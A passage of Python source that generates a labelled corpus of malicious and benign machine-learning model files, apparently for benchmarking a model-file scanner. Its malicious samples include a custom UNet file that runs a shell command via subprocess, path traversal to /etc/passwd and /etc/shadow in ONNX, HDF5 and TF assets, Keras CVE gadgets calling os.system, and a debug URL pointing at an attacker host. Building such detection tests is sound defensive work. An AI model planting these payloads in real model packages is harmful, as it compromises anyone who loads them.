    def absolute_module(folder: Path) -> None:
        H.write_json(folder, "config.json", {"auto_map": {"AutoModel": "/tmp/evil.Model"}})

    def weight_map_escape(folder: Path) -> None:
        H.write_json(
            folder,
            "pytorch_model.bin.index.json",
            H.shard_index({"model.embed_tokens.weight": "../../outside/model.bin"}),
        )

    def diffusers_unet(folder: Path) -> None:
        H.write_json(
            folder,
            "model_index.json",
            {"_class_name": ["pipeline_toy", "ToyPipeline"], "unet": ["my_unet", "MyUNet"]},
        )
        H.write_text(folder, "pipeline_toy.py", "class ToyPipeline:\n    pass\n")
        H.write_text(folder, "unet/my_unet.py", f"import subprocess\nsubprocess.run({CMD!r}, shell=True)\n")

    w.package("malicious", "hf", "auto_map import-time os.system", wired_system, unsafe=True)
    w.package("malicious", "hf", "auto_map obfuscated base64 exec", wired_b64, unsafe=True)
    w.package("malicious", "hf", "auto_map to another repository", other_repo)
    w.package("malicious", "hf", "auto_map absolute module path", absolute_module)
    w.package("malicious", "hf", "weight_map path traversal", weight_map_escape, unsafe=True)
    w.package("malicious", "hf", "diffusers custom unet subprocess", diffusers_unet, unsafe=True)


# ---- graphs: ONNX, Keras, TF SavedModel --------------------------------------------------------------------


def _onnx_samples(w: _Writer) -> None:
    if not has("onnx"):
        return

    def external(location: str, subdir: str | None = None) -> Callable[[Path], None]:
        def build(folder: Path) -> None:
            if subdir:
                (folder / subdir).mkdir(parents=True, exist_ok=True)
            (folder / "model.onnx").write_bytes(G.onnx_bytes(G.onnx_with_external_location(location)))

        return build

    w.package(
        "malicious",
        "onnx",
        "CVE-2022-25882 external data ../",
        external("../../../../etc/passwd"),
        unsafe=True,
    )
    w.package(
        "malicious",
        "onnx",
        "CVE-2024-27318 nested traversal",
        external("weights/../../../etc/passwd", "weights"),
        unsafe=True,
    )
    w.package("malicious", "onnx", "ONNX absolute external location", external("/etc/passwd"), unsafe=True)
    w.package(
        "malicious",
        "onnx",
        "ONNX external data in an If subgraph",
        lambda f: (f / "model.onnx").write_bytes(
            G.onnx_bytes(G.onnx_with_external_location("/etc/shadow", where="if-subgraph"))
        ),
        unsafe=True,
    )
    outside = w.root / "_outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_bytes(b"\x00" * 48)

    def linked(kind: str) -> Callable[[Path], None]:
        def build(folder: Path) -> None:
            (folder / "model.onnx").write_bytes(
                G.onnx_bytes(G.onnx_with_external_location("weights.bin", offset="0", length="48"))
            )
            link = os.symlink if kind == "symlink" else os.link
            link(outside / "secret.txt", folder / "weights.bin")

        return build

    w.package("malicious", "onnx", "CVE-2026-27489 symlinked external data", linked("symlink"), unsafe=True)
    w.package("malicious", "onnx", "CVE-2026-34446 hardlinked external data", linked("hardlink"), unsafe=True)
    custom = [
        (
            "ONNX custom op domain",
            G.onnx_matmul_add([G.onnx_custom_op_node()], opsets=[("", 17), ("org.evil.customops", 1)]),
        ),
        ("ONNX custom op in If branch", G.onnx_if_model([G.onnx_custom_op_node()])),
        ("ONNX custom op in Loop body", G.onnx_loop_model([G.onnx_custom_op_node()])),
        ("ONNX custom op in a local function", G.onnx_local_function_model("org.evil.customops")),
        (
            "ONNX canary domain",
            G.onnx_matmul_add([G.onnx_custom_op_node(CANARY, "Boom")], opsets=[("", 17), (CANARY, 1)]),
        ),
    ]
    for technique, model in custom:
        w.bad("onnx", technique, slug(technique) + ".onnx", G.onnx_bytes(model))


def _keras_samples(w: _Writer) -> None:
    if not has("h5py"):
        return
    seq = G.keras_sequential_config
    configs: list[tuple[str, dict[str, Any], bool]] = [
        ("CVE-2024-3660 Lambda bytecode", seq([G.keras3_lambda_layer()]), True),
        ("CVE-2025-1550 foreign modules", seq(G.keras_cve_2025_1550_layers()), True),
        ("CVE-2025-8747 get_file gadget", seq([G.keras_cve_2025_8747_layer()]), True),
        ("CVE-2025-9906 unsafe toggle then Lambda", seq(G.keras_cve_2025_9906_layers()), True),
        ("CVE-2025-49655 TorchModuleWrapper pickle", seq([G.keras_cve_2025_49655_layer()]), True),
        ("CVE-2026-1462 TFSMLayer", seq([G.keras_cve_2026_1462_layer()]), True),
        ("Keras custom object", seq([G.keras_custom_object_layer()]), False),
        ("Keras canary module", seq([G.keras_layer("Boom", {"units": 1}, module=CANARY)]), False),
        (
            "novel Keras Lambda inside TimeDistributed",
            seq([G.keras_layer("TimeDistributed", {"layer": G.keras3_lambda_layer()})]),
            True,
        ),
        (
            "Keras load_model gadget",
            seq(
                [
                    G.keras_layer(
                        "Dense", {"units": 1, "activation": G.keras_function("keras.models", "load_model")}
                    )
                ]
            ),
            True,
        ),
    ]
    for technique, config, unsafe in configs:
        w.bad("keras", technique, slug(technique) + ".keras", G.keras_zip(config), unsafe=unsafe)
    legacy = G.keras_sequential_config([G.keras2_lambda_layer()], legacy=True)
    w.bad("keras", "CVE-2025-9905 h5 Lambda", "lambda.h5", G.h5_with_model_config(legacy), unsafe=True)
    w.bad(
        "keras",
        "h5 training_config os.system",
        "training-config.h5",
        G.h5_with_model_config(
            G.keras_sequential_config([], legacy=True),
            training_config={"loss": G.keras_function("os", "system")},
        ),
        unsafe=True,
    )
    tf_op = G.keras_layer("TFOpLambda", {"function": "io.write_file"}, module=None)
    w.bad(
        "keras",
        "TFOpLambda io.write_file",
        "tfop-write-file.h5",
        G.h5_with_model_config(G.keras_sequential_config([tf_op], legacy=True)),
        unsafe=True,
    )
    for kind in ("external-link", "external-storage", "virtual-source"):
        w.bad(
            "keras",
            f"HDF5 {kind} to /etc/passwd",
            f"{kind}.h5",
            G.h5_with_external_references(kind, "/etc/passwd"),
            unsafe=True,
        )


def _savedmodel_samples(w: _Writer) -> None:
    serving = [
        (
            "TF ReadFile",
            [G.tf_const_string("path", "/etc/passwd"), G.tf_node("rf", "ReadFile", ["path:output:0"])],
            True,
        ),
        ("TF PyFunc", [G.tf_node("cb", "PyFunc", ["x"], {"token": G.tf_attr_s("pyfunc_7")})], True),
        ("TF EagerPyFunc", [G.tf_node("cb", "EagerPyFunc", ["x"], {"token": G.tf_attr_s("pyfunc_7")})], True),
        ("TF MatchingFiles", [G.tf_node("mf", "MatchingFiles", ["pattern"])], True),
        ("TF Rpc", [G.tf_node("r", "Rpc", ["address", "method", "request"])], True),
        (
            "TF DebugIdentity grpc",
            [
                G.tf_node(
                    "d",
                    "DebugIdentity",
                    ["x"],
                    {"debug_urls": G.tf_attr_list_s(["grpc://attacker.invalid:6064"])},
                )
            ],
            True,
        ),
        ("TF custom op library", [G.tf_node("g", "Addons>GeluGrad", ["x"])], False),
    ]
    for technique, nodes, unsafe in serving:
        data = G.tf_saved_model(G.tf_benign_graph(nodes))
        w.package(
            "malicious",
            "tf-savedmodel",
            technique,
            lambda f, d=data: (f / "saved_model.pb").write_bytes(d),
            unsafe=unsafe,
        )
    write = G.tf_saved_model(
        G.tf_benign_graph(extra_graph_nodes=[G.tf_node("wf", "WriteFile", ["name", "contents"])])
    )
    w.package(
        "malicious",
        "tf-savedmodel",
        "TF WriteFile",
        lambda f: (f / "saved_model.pb").write_bytes(write),
        unsafe=True,
    )
    assets = G.tf_saved_model(
        G.tf_graph([G.tf_const_string("asset_path", "x")]), assets=[("../../etc/passwd", "asset_path:0")]
    )
    w.package(
        "malicious",
        "tf-savedmodel",
        "TF asset path traversal",
        lambda f: (f / "saved_model.pb").write_bytes(assets),
        unsafe=True,
    )
    meta = G.tf_keras_metadata([G.keras_layer("Dense", {"units": 2}, module=None), G.keras2_lambda_layer()])

    def keras_metadata(folder: Path) -> None:
        (folder / "saved_model.pb").write_bytes(G.tf_saved_model(G.tf_benign_graph()))
        (folder / "keras_metadata.pb").write_bytes(meta)

    w.package("malicious", "tf-savedmodel", "TF keras_metadata Lambda", keras_metadata, unsafe=True)


# ---- benign ---------------------------------------------------------------------------------------------


def _plain_data() -> dict[str, Any]:
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import pathlib
    import uuid

    shared = ["shared"]
    return {
        "numbers": [0, -1, 2**70, 1.5, float("inf"), 1j],
        "text": ["", "é\u2603", "x" * 300],
        "bytes": [b"\x00\xff" * 50, bytearray(b"abc")],
        "tuples": [(), (1,), (1, 2, 3, 4)],
        "sets": [{1, 2}, frozenset({"x"})],
        "ordered": collections.OrderedDict(a=1),
        "default": collections.defaultdict(list, {"k": [1]}),
        "deque": collections.deque([1, 2]),
        "counter": collections.Counter("hello"),
        "when": datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC),
        "delta": datetime.timedelta(days=3),
        "decimal": decimal.Decimal("1.25"),
        "fraction": fractions.Fraction(1, 3),
        "uuid": uuid.UUID(int=7),
        "path": pathlib.PurePosixPath("a/b"),
        "args": argparse.Namespace(lr=0.1, name="run"),
        "range": range(5),
        "slice": slice(1, 5, 2),
        "shared": [shared, shared],
    }


def _benign_pickles(w: _Writer) -> None:
    data = _plain_data()
    for proto in (0, 2, 4, 5):
        w.good(
            "pickle",
            f"plain python data protocol {proto}",
            f"plain-p{proto}.pkl",
            pickle.dumps(data, protocol=proto),
        )
    for name in ("dill", "cloudpickle"):
        if has(name):
            module = importlib.import_module(name)
            w.good("pickle", f"{name} of plain data", f"{name}.pkl", module.dumps({"a": [1, 2.0, "x"]}))
    if not has("numpy"):
        return
    import numpy as np

    values = {
        "f": np.arange(6, dtype=np.float32).reshape(2, 3),
        "o": np.array(["a", "bc", None], dtype=object),
        "s": np.float64(1.5),
        "rec": np.zeros(2, dtype=[("a", "f4"), ("b", "i2")]),
        "rs": np.random.RandomState(0),
        "gen": np.random.default_rng(0),
        "dt": np.dtype("M8[ns]"),
        "masked": np.ma.masked_array([1, 2], mask=[0, 1]),
    }
    w.good("pickle", "numpy values pickle", "numpy-values.pkl", pickle.dumps(values, protocol=4))
    if has("joblib"):
        import joblib

        out = io.BytesIO()
        joblib.dump(
            {
                "f": np.arange(1000, dtype=np.float64),
                "o": np.array([{"k": 1}, None], dtype=object),
                "be": np.arange(3, dtype=">i4"),
            },
            out,
        )
        w.good("pickle", "joblib numpy layouts", "arrays.joblib", out.getvalue())
    if has("sklearn") and has("joblib"):
        import joblib

        models = _sklearn_models()
        for compress in ("zlib", "gzip", "bz2", "xz", "lzma", *(["lz4"] if has("lz4") else [])):
            out = io.BytesIO()
            joblib.dump(models["pipeline"], out, compress=(compress, 3))
            w.good(
                "pickle", f"sklearn joblib compress={compress}", f"sklearn-{compress}.joblib", out.getvalue()
            )
        for name, model in models.items():
            w.good("pickle", f"sklearn {name} pickle", f"sklearn-{name}.pkl", pickle.dumps(model, protocol=5))
            out = io.BytesIO()
            joblib.dump(model, out)
            w.good("pickle", f"sklearn {name} joblib", f"sklearn-{name}.joblib", out.getvalue())


def _sklearn_models() -> dict[str, Any]:
    import numpy as np
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler

    rng = np.random.RandomState(0)
    x = rng.rand(40, 4)
    y = (x[:, 0] > 0.5).astype(int)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return {
            "logreg": LogisticRegression().fit(x, y),
            "forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
            "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y),
            "columns": ColumnTransformer(
                [
                    ("num", StandardScaler(), [0, 1]),
                    ("cat", OneHotEncoder(), [2]),
                    ("log", FunctionTransformer(np.log1p), [3]),
                ]
            ).fit(np.round(x, 1)),
            "hgb": HistGradientBoostingClassifier(max_iter=3).fit(x, y),
            "tfidf": TfidfVectorizer().fit(["alpha beta", "beta gamma delta"]),
        }


def _benign_torch(w: _Writer) -> None:
    if not has("torch"):
        return
    import argparse

    import torch

    torch.manual_seed(0)
    nn = torch.nn

    def saved(obj: object, legacy: bool = False) -> bytes:
        out = io.BytesIO()
        torch.save(obj, out, _use_new_zipfile_serialization=not legacy)
        return out.getvalue()

    mlp = nn.Sequential(nn.Linear(8, 4), nn.ReLU(), nn.Linear(4, 2))
    big = nn.Sequential(
        nn.Linear(8, 8),
        nn.LSTM(8, 4),
        nn.Conv2d(1, 2, 3),
        nn.BatchNorm2d(2),
        nn.Embedding(10, 8),
        nn.LayerNorm(8),
        nn.TransformerEncoderLayer(8, 2),
        nn.GELU(),
    )
    optimizer = torch.optim.Adam(mlp.parameters())
    mlp(torch.zeros(1, 8)).sum().backward()
    optimizer.step()
    checkpoint = {
        "state_dict": mlp.state_dict(),
        "optimizer": optimizer.state_dict(),
        "epoch": 3,
        "args": argparse.Namespace(epochs=3, lr=0.1),
        "dtype": torch.bfloat16,
        "size": torch.Size([2]),
    }
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        files = [
            ("torch.save state_dict", "pytorch_model.bin", saved(mlp.state_dict())),
            ("torch.save whole module", "whole-module.pt", saved(big)),
            ("torch.save argparse Namespace checkpoint", "checkpoint.ckpt", saved(checkpoint)),
            ("torch.save legacy state_dict", "legacy-state.pt", saved(mlp.state_dict(), legacy=True)),
            ("torch.save legacy whole module", "legacy-module.pt", saved(mlp, legacy=True)),
            ("torch.save weight_norm module", "weight-norm.pt", saved(nn.utils.weight_norm(nn.Linear(3, 3)))),
            ("pickle.dumps of a tensor", "tensor.pkl", pickle.dumps({"w": torch.ones(3)}, protocol=2)),
        ]
    for technique, name, data in files:
        w.good("pytorch", technique, name, data)
    traced = torch.jit.trace(nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU()).eval(), torch.randn(1, 3, 8, 8))
    for technique, module in (
        ("torch.jit.trace conv", traced),
        ("torch.jit.script LSTM", torch.jit.script(nn.LSTM(4, 8, batch_first=True))),
    ):
        out = io.BytesIO()
        torch.jit.save(module, out)
        w.good("torchscript", technique, slug(technique) + ".pt", out.getvalue())


def _benign_arrays_and_weights(w: _Writer) -> None:
    if has("numpy"):
        import numpy as np

        def npy(array: Any, allow_pickle: bool = False) -> bytes:
            out = io.BytesIO()
            np.save(out, array, allow_pickle=allow_pickle)
            return out.getvalue()

        w.good(
            "numpy", "np.save float array", "weights.npy", npy(np.arange(12, dtype=np.float32).reshape(3, 4))
        )
        w.good(
            "numpy",
            "np.save structured array",
            "records.npy",
            npy(np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8")])),
        )
        w.good(
            "numpy",
            "np.save object array of strings",
            "strings.npy",
            npy(np.array(["a", "bb", None], dtype=object), allow_pickle=True),
        )
        for save in (np.savez, np.savez_compressed):
            out = io.BytesIO()
            save(out, weights=np.random.default_rng(0).normal(size=(16, 16)), bias=np.zeros(16))
            w.good("numpy", f"np.{save.__name__}", f"{save.__name__}.npz", out.getvalue())
    if has("safetensors") and has("numpy"):
        import numpy as np
        from safetensors.numpy import save

        tensors = {"weight": np.arange(12, dtype=np.float32).reshape(3, 4), "mask": np.array([True, False])}
        w.good(
            "safetensors", "safetensors numpy", "numpy.safetensors", save(tensors, metadata={"format": "np"})
        )
        if has("torch"):
            import torch
            from safetensors.torch import save as torch_save

            w.good(
                "safetensors",
                "safetensors torch bf16/fp8",
                "torch.safetensors",
                torch_save(
                    {
                        "w": torch.ones(4, 8, dtype=torch.bfloat16),
                        "f8": torch.zeros(16, dtype=torch.float8_e4m3fn),
                    },
                    metadata={"format": "pt"},
                ),
            )

        w.package("benign", "safetensors", "sharded safetensors with index", _tiny_llama)
    if has("gguf"):
        ggufs = [
            ("GGUFWriter llama3 tools template", "llama3.gguf", {"chat_template": T.LLAMA3_TOOLS}),
            ("GGUFWriter big endian", "big-endian.gguf", {"chat_template": T.CHATML, "big_endian": True}),
            (
                "GGUFWriter named templates",
                "named.gguf",
                {"chat_template": T.CHATML, "named_templates": {"tool_use": T.QWEN25_TOOLS}},
            ),
            ("GGUFWriter vocab only", "vocab-only.gguf", {"chat_template": T.GEMMA, "tensors": False}),
        ]
        for technique, name, kwargs in ggufs:
            w.good("gguf", technique, name, W.gguf_writer_bytes(w.scratch, **kwargs))


def _tiny_tokenizer() -> dict[str, Any]:
    """A byte-level BPE tokenizer.json whose merges only join tokens of its own vocabulary."""
    specials = ["<unk>", "<s>", "</s>"]
    alphabet = [chr(c) for c in range(97, 123)] + ["Ġ"]
    vocab = {token: i for i, token in enumerate(specials + alphabet)}
    merges = []
    for left in "etaoinshr":
        for right in "etaoinshr":
            merges.append([left, right])
            vocab.setdefault(left + right, len(vocab))
    tokenizer = H.tokenizer_json(len(vocab))
    tokenizer["added_tokens"] = [
        {**tokenizer["added_tokens"][0], "id": i, "content": token} for i, token in enumerate(specials)
    ]
    tokenizer["model"].update(vocab=vocab, merges=merges, unk_token="<unk>")
    return tokenizer


def _tiny_llama(folder: Path) -> None:
    """A consistent two-layer Llama: config, tokenizer, two safetensors shards and their index."""
    import numpy as np

    tokenizer = _tiny_tokenizer()
    vocab, hidden = len(tokenizer["model"]["vocab"]), 8
    config = {
        **H.LLAMA_CONFIG,
        "vocab_size": vocab,
        "hidden_size": hidden,
        "intermediate_size": 16,
        "num_hidden_layers": 2,
        "num_attention_heads": 2,
        "num_key_value_heads": 1,
        "head_dim": 4,
        "bos_token_id": 1,
        "eos_token_id": 2,
        "tie_word_embeddings": False,
        "torch_dtype": "float32",
    }
    shapes: dict[str, list[int]] = {
        "model.embed_tokens.weight": [vocab, hidden],
        "model.norm.weight": [hidden],
        "lm_head.weight": [vocab, hidden],
    }
    for layer in range(2):
        prefix = f"model.layers.{layer}."
        shapes |= {
            prefix + "self_attn.q_proj.weight": [8, hidden],
            prefix + "self_attn.k_proj.weight": [4, hidden],
            prefix + "self_attn.v_proj.weight": [4, hidden],
            prefix + "self_attn.o_proj.weight": [hidden, 8],
            prefix + "mlp.gate_proj.weight": [16, hidden],
            prefix + "mlp.up_proj.weight": [16, hidden],
            prefix + "mlp.down_proj.weight": [hidden, 16],
            prefix + "input_layernorm.weight": [hidden],
            prefix + "post_attention_layernorm.weight": [hidden],
        }
    rng = np.random.default_rng(0)
    names = sorted(shapes)
    weight_map: dict[str, str] = {}
    total = 0
    for shard_index, part in enumerate((names[: len(names) // 2], names[len(names) // 2 :]), start=1):
        shard = f"model-0000{shard_index}-of-00002.safetensors"
        header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
        data = b""
        for name in part:
            values = rng.normal(0, 0.02, size=shapes[name]).astype(np.float32).tobytes()
            header[name] = W.st_entry("F32", shapes[name], len(data), len(data) + len(values))
            data += values
            weight_map[name] = shard
        total += len(data)
        (folder / shard).write_bytes(W.safetensors_file(header, data))
    H.write_json(
        folder, "model.safetensors.index.json", {"metadata": {"total_size": total}, "weight_map": weight_map}
    )
    H.write_json(folder, "config.json", config)
    H.write_json(folder, "tokenizer.json", tokenizer)
    H.write_json(folder, "tokenizer_config.json", H.tokenizer_config())


def _benign_templates_and_hf(w: _Writer) -> None:
    for name, source in sorted(T.BENIGN_TEMPLATES.items()):
        w.good("jinja", f"chat template {name}", f"{slug(name)}.jinja", source.encode())
    try:
        from builders import backdoor_templates as B

        for name, source in sorted(B.REAL_TEMPLATES.items()):
            w.good(
                "jinja", f"published chat template {name}", f"published-{slug(name)}.jinja", source.encode()
            )
    except ImportError:
        pass

    def llama(folder: Path) -> None:
        _tiny_llama(folder)
        H.write_json(folder, "generation_config.json", H.GENERATION_CONFIG)
        H.write_json(folder, "special_tokens_map.json", H.SPECIAL_TOKENS_MAP)
        H.write_text(folder, "README.md", "# Llama-shaped test model\n")

    def adapter(folder: Path) -> None:
        H.write_json(folder, "adapter_config.json", H.ADAPTER_CONFIG)
        header, data = W.f32_pair()
        (folder / "adapter_model.safetensors").write_bytes(W.safetensors_file(header, data))

    w.package("benign", "hf", "llama-shaped package", llama)
    w.package("benign", "hf", "custom code package (auto_map)", H.custom_code_package)
    w.package("benign", "hf", "PEFT adapter", adapter)
    w.package(
        "benign",
        "hf",
        "tiktoken tokenizer code",
        lambda f: H.write_text(f, "tokenization_toy.py", H.TOKENIZATION_TIKTOKEN),
    )


def _benign_graphs(w: _Writer) -> None:
    if has("onnx"):
        models = [
            ("ONNX matmul add", G.onnx_matmul_add()),
            ("ONNX If subgraphs", G.onnx_if_model()),
            ("ONNX Loop body", G.onnx_loop_model()),
            ("ONNX local function", G.onnx_local_function_model("")),
            (
                "ONNX com.microsoft contrib op",
                G.onnx_matmul_add(
                    [G.onnx_custom_op_node("com.microsoft", "FusedMatMul")],
                    opsets=[("", 17), ("com.microsoft", 1)],
                ),
            ),
        ]
        for technique, model in models:
            w.good("onnx", technique, slug(technique) + ".onnx", G.onnx_bytes(model))
        w.package("benign", "onnx", "ONNX with external data", G.save_onnx_with_external_data)
        w.package(
            "benign",
            "onnx",
            "ONNX external data in a subfolder",
            lambda f: G.save_onnx_with_external_data(f, location="weights/data.bin"),
        )
    if has("h5py") and has("numpy"):
        import h5py
        import numpy as np

        out = io.BytesIO()
        with h5py.File(out, "w") as handle:
            handle.create_dataset("layers/dense/vars/0", data=np.ones((3, 3), dtype=np.float32))
        w.good("keras", "HDF5 weights only", "weights.h5", out.getvalue())
    if has("keras") and has("torch") and has("h5py"):
        os.environ.setdefault("KERAS_BACKEND", "torch")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            paths = G.real_keras_models(w.scratch / "keras")
        for name, path in sorted(paths.items()):
            w.good("keras", f"keras 3 {name}", name, path.read_bytes())
    dense = G.keras_layer("Dense", {"units": 2}, module=None)

    def savedmodel(folder: Path) -> None:
        (folder / "variables").mkdir()
        (folder / "saved_model.pb").write_bytes(G.tf_saved_model(G.tf_benign_graph()))
        (folder / "keras_metadata.pb").write_bytes(G.tf_keras_metadata([dense]))
        (folder / "fingerprint.pb").write_bytes(
            G.pb_int(1, 123) + G.pb_int(2, 456) + G.pb_len(6, G.pb_int(1, 1))
        )
        (folder / "variables" / "variables.index").write_bytes(b"\x00" * 16)

    w.package("benign", "tf-savedmodel", "TF2 Keras SavedModel export", savedmodel)
    w.good("tf-savedmodel", "TF frozen graph", "frozen_graph.pb", G.tf_benign_graph())


def _benign_archives(w: _Writer) -> None:
    readme = b"# model\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.md", readme)
        archive.writestr("vocab.txt", "a\nb\n")
    w.good("zip", "zip of text files", "bundle.zip", out.getvalue())
    w.good("7z", "7z of configs", "bundle.7z", C.build_7z({"README.md": readme, "config.json": b'{"a": 1}'}))
    w.good(
        "gzip", "gzip of a config", "config.json.gz", C.compress(json.dumps(H.LLAMA_CONFIG).encode(), "gzip")
    )
    members = [
        C.TarEntry("model/", kind=tarfile.DIRTYPE),
        C.TarEntry("model/config.json", b'{"hidden_size": 4}'),
        C.TarEntry("model/README.md", readme),
    ]
    if has("torch"):
        import torch

        weights = io.BytesIO()
        torch.save({"w": torch.ones(4, 4)}, weights)
        members.append(C.TarEntry("model/pytorch_model.bin", weights.getvalue()))
    w.good("tar", "tar.gz of a model folder", "model.tar.gz", C.compress(C.build_tar(members), "gzip"))


# ---- entry points ------------------------------------------------------------------------------------------

_MALICIOUS = (
    _pickle_samples,
    _container_samples,
    _torchscript_samples,
    _weights_samples,
    _template_samples,
    _hf_samples,
    _onnx_samples,
    _keras_samples,
    _savedmodel_samples,
    yaml_samples,
    native_samples,
)
_BENIGN = (
    _benign_pickles,
    _benign_torch,
    _benign_arrays_and_weights,
    _benign_templates_and_hf,
    _benign_graphs,
    _benign_archives,
    benign_yaml,
)


def build_corpus(folder: Path) -> list[Sample]:
    """Write the corpus under `folder` (created, must be empty or missing) and return its samples."""
    folder = Path(folder)
    writer = _Writer(folder)
    try:
        for build in (*_MALICIOUS, *_BENIGN):
            build(writer)
    finally:
        shutil.rmtree(writer.scratch, ignore_errors=True)
    return sorted(writer.samples, key=lambda s: s.relpath)


def write_manifest(folder: Path, samples: list[Sample]) -> Path:
    """`manifest.json` next to the samples: what benchmarks and the subprocess test read back."""
    path = Path(folder) / "manifest.json"
    path.write_text(json.dumps([s._asdict() for s in samples], indent=1))
    return path


def read_manifest(folder: Path) -> list[Sample]:
    return [Sample(**entry) for entry in json.loads((Path(folder) / "manifest.json").read_text())]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write the labelled corpus to a folder.")
    parser.add_argument("folder", type=Path)
    args = parser.parse_args(argv)
    samples = build_corpus(args.folder)
    write_manifest(args.folder, samples)
    counts = {label: sum(s.label == label for s in samples) for label in ("malicious", "benign")}
    print(f"{len(samples)} samples ({counts['malicious']} malicious, {counts['benign']} benign)")
    return 0
